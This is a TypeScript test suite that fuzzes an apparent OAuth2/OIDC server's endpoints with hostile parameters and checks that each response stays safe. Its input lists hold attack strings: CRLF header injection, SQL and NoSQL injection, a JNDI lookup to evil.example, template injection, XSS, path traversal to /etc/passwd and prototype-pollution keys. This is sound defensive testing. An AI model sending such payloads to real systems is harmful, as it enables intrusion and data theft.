import { expect } from 'chai';
import { onEachDatabase } from '../support/databases.js';
import { CALLBACK, createApp, createUser, jsonOf, type TestApp, USER_PASSWORD } from '../support/oauth-client.js';
import { startTestServer, type TestServer } from '../support/test-server.js';
import { type Fields, type Hop, Visitor, withQuery } from '../support/visitor.js';

const values: readonly string[] = [
  '\0',
  'before\0after',
  '\r\nSet-Cookie: evil=1\r\n\r\n<script>',
  '%0d%0aSet-Cookie:%20evil=1',
  '\u2028\u2029\u0085\ufeff',
  'é ü ß 日本語',
  '\u{1f600}\u{10ffff}',
  '\ud800',
  '\u202eevil',
  "' OR '1'='1' --",
  '"; DROP TABLE living_state; --',
  '{"$ne":null}',
  '$' + '{jndi:ldap://evil.example/x}',
  '{{7*7}}<%= 7*7 %>',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '-1',
  '1e309',
  'NaN',
  'null',
  'undefined',
  'true',
  ' ',
  '%',
  '%E0%A4%A',
  's.',
  'x'.repeat(4000),
];
/** As it arrives: what is no Unicode is replaced on the way. */
const wellFormed = (text: string) => Buffer.from(text).toString();
const wild = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '',
  '[]',
  'a[b]',
  'a.b',
  '\0',
  '\r\n',
];

const authorizeNames = [
  'client_id',
  'redirect_uri',
  'response_type',
  'response_mode',
  'scope',
  'state',
  'nonce',
  'prompt',
  'max_age',
  'login_hint',
  'ui_locales',
  'code_challenge',
  'code_challenge_method',
  'id_token_hint',
  'acr_values',
  'display',
  'sessionDataKey',
  'sessionDataKeyConsent',
];
const loginNames = [
  'sessionDataKey',
  'username',
  'password',
  'usernameUserInput',
  'chkRemember',
  'authenticator',
  'idp',
  'tenantDomain',
];
const logoutNames = ['id_token_hint', 'client_id', 'post_logout_redirect_uri', 'state', 'sessionDataKey', 'consent'];
const tokenNames = [
  'grant_type',
  'code',
  'redirect_uri',
  'code_verifier',
  'refresh_token',
  'scope',
  'client_id',
  'client_secret',
];

/** What no answer may be, whatever was sent. */
function expectDecent({ status, headers, cookies, text, location }: Hop, what: string): void {
  expect(status, what).to.be.lessThan(500);
  expect(headers.has('evil') || headers.has('x-evil'), what).to.equal(false);
  for (const line of cookies) expect(line, what).to.match(/^(commonAuthId|opbs|sessionNonceCookie-[\w-]+)=/);
  expect(text, what).not.to.match(/node_modules|\bat \w+ \(|SQLITE|QueryFailed|<script>alert/i);
  const page = location?.searchParams.get('oauthErrorCode') ?? location?.searchParams.get('statusMsg');
  expect(page, what).not.to.be.oneOf(['server_error', 'server.error']);
  expect(location?.searchParams.get('error'), what).not.to.equal('server_error');
}

onEachDatabase('hostile parameters', (database) => {
  let server: TestServer;
  let app: TestApp;
  let visitor: Visitor;
  before(async () => {
    server = await startTestServer({ database });
    await createUser(server, 'alice');
    app = await createApp(server);
    visitor = new Visitor(server);
    await app.visit(visitor, {}, { username: 'alice' });
  });
  after(() => server?.stop());

  // What breaks a database is tried on each; what breaks a parser, on one.
  const sent = database === 'sqlite' ? values : [...values.slice(0, 10), 'x'.repeat(4000)];
  const inAll = async (
    names: readonly string[],
    usual: Record<string, string>,
    send: (fields: Fields) => Promise<Hop>,
  ) => {
    const cases: [string, Fields][] = [];
    for (const name of names) {
      for (const value of sent)
        cases.push([`${name}=${JSON.stringify(value.slice(0, 40))}`, { ...usual, [name]: value }]);
      cases.push([`${name} twice`, [...Object.entries(usual), [name, 'a'], [name, 'b']]]);
      cases.push([`${name} empty`, { ...usual, [name]: '' }]);
    }
    for (const name of wild) cases.push([`the name ${JSON.stringify(name)}`, [...Object.entries(usual), [name, 'x']]]);
    for (let at = 0; at < cases.length; at += 8) {
      await Promise.all(cases.slice(at, at + 8).map(async ([what, fields]) => expectDecent(await send(fields), what)));
    }
  };

  it('of authorization requests, by GET and POST', async function () {
    this.timeout(60_000);
    const usual = { client_id: app.id, redirect_uri: CALLBACK, response_type: 'code', scope: 'openid', state: 's' };
    await inAll(authorizeNames, usual, (fields) => visitor.twin().get(withQuery('/oauth2/authorize', fields)));
    await inAll(authorizeNames, usual, (fields) => new Visitor(server).post('/oauth2/authorize', fields));
  });

  it('of the login form', async function () {
    this.timeout(60_000);
    const browser = new Visitor(server);
    const page = await browser.get(app.authorizePath());
    const sessionDataKey = page.location?.searchParams.get('sessionDataKey') ?? '';
    const usual = { sessionDataKey, username: 'alice', password: 'wrong' };
    await inAll(loginNames, usual, (fields) => browser.twin().post('/commonauth', fields));
  });

  it('of sign-ins that succeed: they are stored and come back', async () => {
    for (const value of values) {
      const parameters = {
        state: value,
        nonce: value,
        login_hint: value.slice(0, 500),
        ui_locales: value.slice(0, 500),
      };
      const headers = { 'user-agent': 'x'.repeat(2000) };
      const browser = new Visitor(server);
      const page = await browser.get(app.authorizePath(parameters), headers);
      expectDecent(page, value.slice(0, 40));
      const sessionDataKey = page.location?.searchParams.get('sessionDataKey') ?? '';
      const back = await browser.post(
        '/commonauth',
        { sessionDataKey, username: 'alice', password: USER_PASSWORD },
        headers,
      );
      const done = await browser.follow(back);
      expectDecent(done, value.slice(0, 40));
      expect(done.location?.searchParams.get('state') === wellFormed(value), value.slice(0, 40)).to.equal(true);
      expect((await app.redeem(done.location?.searchParams.get('code') ?? '')).status).to.equal(200);
    }
  });

  it('of the token endpoint, for each grant', async function () {
    this.timeout(60_000);
    const headers = { authorization: app.basic };
    for (const grant of [
      { grant_type: 'authorization_code', code: 'x' },
      { grant_type: 'refresh_token', refresh_token: 'x' },
      { grant_type: 'client_credentials' },
    ])
      await inAll(tokenNames, { ...grant }, (fields) => new Visitor(server).post('/oauth2/token', fields, headers));
  });

  it('of credentials in headers', async () => {
    for (const value of values) {
      for (const pair of [`${value}:x`, `${app.id}:${value}`, `${encodeURIComponent(wellFormed(value))}:x`, value]) {
        const authorization = `Basic ${Buffer.from(pair).toString('base64')}`;
        for (const path of ['/oauth2/token', '/oauth2/introspect', '/oauth2/revoke']) {
          const fields = { grant_type: 'client_credentials', token: 'x' };
          expectDecent(await new Visitor(server).post(path, fields, { authorization }), `${path} ${pair.slice(0, 40)}`);
        }
      }
      const bearer = { authorization: `Bearer ${encodeURIComponent(wellFormed(value))}` };
      expectDecent(await new Visitor(server).get('/oauth2/userinfo', bearer), value);
      const cookie = `commonAuthId=${encodeURIComponent(wellFormed(value))}; __proto__=x; =; ;;`;
      expectDecent(await new Visitor(server).get(app.authorizePath(), { cookie }), value);
    }
  });

  it('of introspection, revocation and userinfo', async () => {
    const headers = { authorization: app.basic };
    const usual = { token: 'x' };
    for (const path of ['/oauth2/introspect', '/oauth2/revoke'])
      await inAll(['token', 'token_type_hint', 'client_id'], usual, (fields) =>
        new Visitor(server).post(path, fields, headers),
      );
    await inAll(['access_token'], {}, (fields) => new Visitor(server).post('/oauth2/userinfo', fields));
  });

  it('of logout', async () => {
    const tokens = await app.tokens('alice');
    for (const usual of [{}, { id_token_hint: tokens.id }, { client_id: app.id }] as Record<string, string>[]) {
      await inAll(logoutNames, usual, (fields) => visitor.twin().get(withQuery('/oidc/logout', fields)));
      await inAll(logoutNames, usual, (fields) => new Visitor(server).post('/oidc/logout', fields));
    }
  });

  it('of paths', async () => {
    const parts = [
      '%00',
      '%0d%0aX-Evil:1',
      '%E0%A4%A',
      '%ff',
      '..%2f..%2f',
      '__proto__',
      'x'.repeat(5000),
      '%F0%9F%98%80',
      "'",
    ];
    for (const part of parts)
      for (const path of [
        `/oauth2/${part}/.well-known/openid-configuration`,
        `/t/${part}/oauth2/authorize`,
        `/o/${part}/oauth2/token`,
        `/${part}`,
        `/oauth2/${part}`,
      ])
        expectDecent(await new Visitor(server).get(path), path.slice(0, 80));
  });

  it('leave the server as it was', async () => {
    expect((await app.userinfo((await app.tokens('alice')).access)).status).to.equal(200);
    const plain = { polluted: undefined } as Record<string, unknown>;
    expect(plain['isAdmin']).to.equal(undefined);
    const hop = await new Visitor(server).post(
      '/oauth2/token',
      { grant_type: 'client_credentials' },
      { authorization: app.basic },
    );
    expect(jsonOf(hop).status).to.equal(200);
    expect(server.logs.filter(({ level, msg }) => level === 'error' || msg === 'a request failed')).to.deep.equal([]);
  });
});
